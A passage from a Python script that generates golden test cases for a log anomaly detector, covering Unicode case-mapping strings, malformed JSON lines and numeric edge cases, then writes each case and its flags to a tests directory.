        lines.append(jdump({"timestamp": 1_700_000_100 + j, "source": "tiny", "message": "m", "v": v, "u": v, "z": v}))
    case("jsonl_numbers", "jsonl", lf(lines), "--jsonl --detector mad --window 5 --warmup 2")


SEM_EDGE = ["", " ", "x", "xy", "xyz", "  a  ", "\t", "ΣΑΣ", "Σ", "aΣ", "ΑΣ.Σ", "İ", "İİİ", "ß", "ﬁ", "Ǆ",
            "ᾼ", "ΐ", "\u0130\u0307", "A\u0345Σ", "ΌΣΟΣ ΣΟΣ", "\u1e9e", "\u2126", "K\u212a", "\U00010400",
            "ǅǅǅǅǅ"]


def gen_jsonl_semantic_edges():
    """Semantic layer edge cases: empty / 1-3 character messages (n-gram fallback),
    case mapping (final sigma, dotted I, ligatures, titlecase), and messages longer
    than the vectorizer's 4096-character cap."""
    rng = random.Random(SEED + 28)
    edge = SEM_EDGE
    lines = []
    t = 1_700_500_000.0
    for i in range(260):
        t += 1
        if i > 40 and rng.random() < 0.3:
            m = rng.choice(edge)
        else:
            m = f"normal event number {rng.randint(0, 99)} ok"
        if i > 40 and i % 110 == 0:
            m = "long " + "abcdefghij" * rng.randint(410, 440) + rng.choice(edge)
        lines.append(jdump({"timestamp": t, "source": "sem", "message": m}))
    case("jsonl_semantic_edges", "jsonl", lf(lines), "--jsonl --semantic --threshold 1.5 --warmup 10")


# JSON-syntax edge cases, as raw lines (Python json.loads semantics: NaN/Infinity
# literals, duplicate keys, leading zeros and other invalid numbers, control characters,
# unicode whitespace around the object (str.strip), BOM, nesting, non-object values,
# non-string messages -> Python str()/repr()). No lone surrogates here (see jsonl_escapes).
JSON_SYNTAX_LINES = [
    '{"a":1}\x0c',
    '\x0c{"a":1}',
    '{"a":1e5}',
    '{"a":1E400}',
    '{"a":-}',
    '{"a":01}',
    '{"a":1.}',
    '{"a":.5}',
    '{"a":-0}',
    '{"a":1e-400}',
    '{"a": 123456789012345678901234567890e-10}',
    '{"a":1_000}',
    '{"a":0x10}',
    '{"a":Infinity}',
    '{"a":-NaN}',
    '{"a":+1}',
    '{"a":true,"a":1}',
    '{"message":"x","message":null}',
    '{"":""}',
    '{"message":"\\uD83D\\uDE00 \\u00E9"}',
    '{"message":[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]}',
    '{"message": {"b": [1, 2.50, -0, "\\"", "\'", "\\\\", "\\u0007", "\\u00a0", "\\u00ad", "\\u0378", "\\ue000", "\\U"]}}',
    '{"message": {"b": [1, 2.50, -0, "\\"", "\'", "\\\\", "\\u0007", "\\u00a0", "\\u00ad", "\\u0378", "\\ue000"]}}',
    '{"message": 1e-5}',
    '{"message": 1.0e+2}',
    '{"message": 12345678901234567.0}',
    '{"message": 1e22}',
    '{"message": 1e23}',
    '{"message": 0.1}',
    '{"message": [1e16, 1e15, 123456789012345678, -1.5e-10, 5e-324]}',
    '{"source":"a","source":"b","message":"dup src"}',
    '{"a":1,"b":2,"a":3,"message":"order"}',
    '{ "a" :\t1 , "message" : "ws" }',
    '{"a":1}\u2028',
    '\u2028{"a":1}',
    '\ufeff{"a":1}',
    '{"message":"raw \u2028 \x85 \xa0 nel"}',
    '{"message":"tab\there"}',
    '{"message":"x"}}',
    '[{"message":"in list"}]',
    '{"message": "𝕏 😀"}',
    '{"message": ["😀", "\\u00e9", "é", "\u200f", "\u2066", "\uffff", "\U000e0001"]}',
    '{"message": [true, false, null, NaN, Infinity, -Infinity, -0.0, 0.0, 1.0, 100.0, 1e300, 1.5e-7]}',
    '{"message": {"k": {"k2": [{}]}}}',
    '"\\u0000"',
    '1.5',
    '-1e-7',
    '99999999999999999999999',
    '[1.0, 2.5e10, "a\\"b"]',
]


def gen_jsonl_syntax():
    """Each edge line sits between timed ticks of source "clock"; --shard-by none with
    --max-sources 1 keeps the untimed edge lines out of the inter-arrival map."""
    lines = []
    t = 1_700_000_000
    for _ in range(6):
        t += 1
        lines.append(jdump({"timestamp": t, "source": "clock", "message": "tick" + "x" * (t % 3), "a": 1 + t % 3}))
    for edge in JSON_SYNTAX_LINES:
        lines.append(edge)
        for _ in range(3):
            t += 1
            lines.append(jdump({"timestamp": t, "source": "clock", "message": "tick" + "x" * (t % 3), "a": 1 + t % 3}))
    case("jsonl_syntax", "jsonl", lf(lines), "--jsonl --shard-by none --max-sources 1 --threshold 0.5 --warmup 3")


def gen_demo_slice():
    data = (ROOT / "datasets" / "demo.jsonl").read_bytes().split(b"\n")
    case("demo_jsonl_mad", "jsonl", b"\n".join(data[:220]) + b"\n", "--jsonl --detector mad --window 64")


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--out", default=str(ROOT / "tests" / "golden"))
    args = ap.parse_args()
    for fn in (gen_text_basic, gen_text_ewma, gen_text_mad, gen_text_semantic, gen_text_cr_mix,
               gen_text_invalid_utf8, gen_text_unicode, gen_text_controls, gen_loghub,
               gen_jsonl_multi, gen_jsonl_max_sources, gen_jsonl_timestamps, gen_jsonl_attrs,
               gen_jsonl_junk, gen_jsonl_escapes, gen_jsonl_semantic, gen_jsonl_numbers,
               gen_jsonl_semantic_edges, gen_jsonl_syntax, gen_demo_slice):
        fn()
    out = Path(args.out)
    out.mkdir(parents=True, exist_ok=True)
    for name, (ext, data, flags) in sorted(CASES.items()):
        (out / f"{name}.{ext}").write_bytes(data)
        (out / f"{name}.args").write_text(flags + "\n", encoding="utf-8")
    print(f"wrote {len(CASES)} cases to {out}")


if __name__ == "__main__":
    main()
